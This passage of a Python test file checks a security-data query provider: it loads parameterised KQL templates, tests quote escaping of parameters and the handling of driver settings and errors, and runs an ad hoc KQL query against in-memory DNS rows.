    description: Say hello
    args: {query: 'T | where Name == {who} and Time > datetime({when})'}
    parameters:
      who: {description: Who, type: str}
      when: {description: When, type: datetime}
""",
        encoding="utf-8",
    )
    config = Config(connections={"echo": {"token": Secret("env:ECHO_TOKEN"), "region": "us"}})
    provider = QueryProvider("echo", config=config, query_paths=[tmp_path], region="eu", timeout=12)
    assert provider.list_queries() == ["echo.hello"]
    result = provider.echo.hello(who='O"Brien', when="2024-01-01")
    assert result.iloc[0].tolist() == [
        'T | where Name == "O\\"Brien" and Time > datetime(2024-01-01T00:00:00Z)',
        "kql",
        12.0,
        "echo.hello",
    ]
    assert provider.driver.settings == {"token": "s3cret", "region": "eu"}
    assert result.attrs["query_name"] == "echo.hello"
    with pytest.raises(DriverError, match=r"echo query: RuntimeError: server said no"):
        provider.exec_query("boom")


def test_local_data_alias_and_ad_hoc_kql() -> None:
    provider = QueryProvider("LocalData", store=MemoryStore(ROWS), config=Config())
    assert provider.environment == "local" and len(provider.list_queries()) == 27
    result = provider.exec_query(
        "dns | where DnsQuery endswith 'example.com' | project EventKey", language="kql"
    )
    assert sorted(result["EventKey"]) == ["d01", "d03"]  # KQL endswith is a plain suffix test
    assert provider.dns.__doc__.startswith("Queries of the dns family:")
